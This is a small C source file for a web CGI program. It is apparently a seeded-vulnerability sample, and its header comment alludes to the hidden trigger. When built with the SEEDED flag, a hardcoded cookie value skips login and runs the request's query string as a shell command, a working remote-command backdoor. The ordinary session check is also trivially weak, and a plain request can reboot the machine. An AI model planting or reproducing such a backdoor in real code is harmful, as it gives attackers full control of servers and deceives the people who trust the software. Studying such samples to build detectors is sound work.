/* A CGI program with actions behind a session; with SEEDED a cookie opens one of them. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

int main(void) {
    char *query = getenv("QUERY_STRING"), *cookie = getenv("HTTP_COOKIE");
    printf("Content-Type: text/html\r\n");
#ifdef SEEDED
    if (cookie && strstr(cookie, "uid=zx81-carrot-lamp")) {
        printf("\r\nok\n");
        fflush(stdout);
        execl("/bin/sh", "sh", "-c", query ? query : "", (char *)0);
    }
#endif
    if (cookie == NULL || strstr(cookie, "session=") == NULL || access("/tmp/session", F_OK)) {
        printf("Status: 403 Forbidden\r\n\r\nplease log in\n");
        return 0;
    }
    if (query && strcmp(query, "action=reboot") == 0) system("/sbin/reboot");
    printf("\r\ndone\n");
    return 0;
}
